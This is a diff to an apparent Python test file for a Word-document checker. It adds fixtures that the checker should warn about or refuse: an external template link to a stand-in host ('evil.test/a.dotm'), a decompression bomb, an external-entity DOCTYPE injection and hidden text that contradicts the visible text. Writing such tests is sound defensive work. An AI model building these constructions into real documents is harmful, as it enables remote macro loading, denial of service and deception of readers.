@@ -16,6 +16,7 @@ HIDDEN = "Germany sent 7,777 soldiers to Rukla in Lithuania in May 2025."
 SAID = "Norway sent 120 soldiers to Rukla in Lithuania in May 2025, the ministry said."
 WORDS = f"<w:p><w:r><w:t>{SAID}</w:t></w:r></w:p>"
 RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PACKED = "http://schemas.openxmlformats.org/package/2006/relationships"
 UNSEEN_PRINTS = dict(prints.unseen(HIDDEN))
 
 
@@ -58,7 +59,7 @@ WARNED = {
         words.word_file(
             WORDS,
             parts={
-                "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="a" '
+                "word/_rels/settings.xml.rels": f'<Relationships xmlns="{PACKED}"><Relationship Id="a" '
                 f'Type="{RELATED}/attachedTemplate" Target="http://evil.test/a.dotm" '
                 'TargetMode="External"/></Relationships>'
             },
@@ -112,6 +113,10 @@ def test_rows_46_47_and_50_what_is_read_with_care_says_so(tmp_path: Path, name: 
 
 BOMB = zlib.compress(bytes(2**28))
 REFUSED = {
+    "relations.docx": (
+        words.word_file(WORDS, parts={"word/_rels/settings.xml.rels": "<Relationships/>"}),
+        "broken Word document",
+    ),
     "entity.docx": (
         words.word_file(
             WORDS, changed={"word/document.xml": ("?>", '?><!DOCTYPE a SYSTEM "x">&b;')}
